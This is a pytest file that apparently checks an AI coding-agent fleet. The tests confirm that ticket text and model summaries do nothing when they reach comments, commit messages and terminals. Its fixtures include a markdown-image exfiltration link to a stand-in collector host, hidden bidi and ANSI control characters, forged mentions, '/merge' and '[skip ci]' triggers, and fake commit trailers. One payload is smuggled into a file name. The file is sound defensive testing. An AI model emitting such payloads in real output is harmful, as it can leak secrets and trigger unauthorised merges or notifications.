"""T5 and T10: what a ticket and a model say reaches the board, the branch and a terminal as words, and does nothing there."""

from __future__ import annotations

import re
import unicodedata

import pytest
from markdown_it import MarkdownIt

from support.fleet import Fleet

LEAK = "https://collector.example/p.png?d=secret"
SUMMARY = (
    f"Done, **see**:\n\n![plan]({LEAK}) <img src={LEAK}> [docs]({LEAK})\n\n/merge\n\nCloses #8 and SHOP-9, thanks @alice, OP#42 "
    '\x1b[31mred\x1b[0m \u202eevil\u202c user#1 <mention data-id="1" data-type="user">@a</mention>\n\n'
    "Signed-off-by: A Person <person@example.org>\nAgent-Run: 00000000-0000-4000-8000-000000000000"
)
READER = MarkdownIt("commonmark", {"html": True}).enable("table")


def acting(text: str) -> list[str]:
    """What of a comment a reader's browser would obey; the marker in its last line is ours."""
    body = text.rstrip().rpartition("\n")[0] if text.rstrip().endswith("-->") else text
    kinds = ("image", "html_inline", "html_block", "link_open")
    return [
        f"{one.type}: {one.content}"
        for block in READER.parse(body)
        for one in (block, *(block.children or ()))
        if one.type in kinds and LEAK.partition("?")[0][:20] in f"{one.content}{one.attrs}"
    ]


def unseen(text: str) -> list[str]:
    return [f"U+{ord(sign):04X}" for sign in text if unicodedata.category(sign) in ("Cf", "Cc") and sign not in "\n\t"]


def test_the_words_of_a_finished_run_do_nothing_on_the_board_and_in_the_branch(small_fleet: Fleet) -> None:
    ticket = small_fleet.add("/merge Closes #7 [skip ci] \u202egnp.exe fixup! @bob")
    pod = small_fleet.pod(script={"summary": SUMMARY})
    assert small_fleet.cycle(pod)["end"]["kind"] == "done"
    comments = small_fleet.comments(ticket)
    assert [acting(one) for one in comments] == [[]] * len(comments)
    assert LEAK in "".join(comments), "a link shows its address"
    assert not re.search(r"user#1|<mention|data-id=\"", "".join(comments))
    (branch,) = [one for one in small_fleet.branches() if one != "main"]
    message = small_fleet.log(branch)
    assert unseen(message) == []
    assert not re.search(r"(?im)^/|(close[sd]?|fix(es)?):? +([\w/]*#\d|shop-\d)|\[skip ci\]|(?<!\w)@\w|OP#\d", message)
    trailers = [line for line in message.split("\n") if re.match(r"(Agent-Run|Signed-off-by|Work-Package)", line)]
    assert len(trailers) == 2


@pytest.mark.parametrize(
    "script",
    [
        {"verdict": "stuck", "summary": f"![]({LEAK}) <img src={LEAK}>", "question": f"![]({LEAK})"},
        {"files": {f"a`![x]({LEAK.replace('/', '')})`": "<<<<<<< ours\n=======\n>>>>>>> theirs\n"}},
        {"files": {"work.txt": "x\n"}, "summary": "fine"},
    ],
    ids=["given up", "a file's name", "output of a check"],
)
def test_the_words_of_a_failure_do_nothing_on_ticket_spike_and_terminal(
    small_fleet: Fleet, script: dict[str, object], request: pytest.FixtureRequest
) -> None:
    if "check" in request.node.callspec.id:
        failing = (
            f'printf \'```\\n![x]({LEAK})\\n<mention data-id="1" data-type="user"> \\033[31m\\342\\200\\256x\'; false'
        )
        small_fleet.remote.push("main", {".agent.toml": f"[verify]\ncommands = ['''{failing}''']\n"})
    ticket = small_fleet.add("Look \u202ehere\u2066 \x9b31m")
    done = small_fleet.agent("--config", str(small_fleet.pod(script=script)), command=("cycle",))
    assert "failed" in done.stdout
    assert unseen(done.stdout + done.stderr) == []
    (spike,) = small_fleet.children(ticket)
    texts = [*small_fleet.comments(ticket), small_fleet.get(spike)["description"]["raw"]]
    assert [acting(one) for one in texts] == [[]] * len(texts)
    assert not re.search(r"<mention|data-id=\"", "".join(texts))
    assert unseen(small_fleet.get(spike)["subject"]) == []
    if script.get("verdict") == "stuck":
        for look in (("explain", str(ticket)), ("status", "--json")):
            shown = small_fleet.agent("--config", str(small_fleet.pod(script=script)), command=look)
            assert shown.returncode == 0, shown.stderr
            assert unseen(shown.stdout + shown.stderr) == [], look
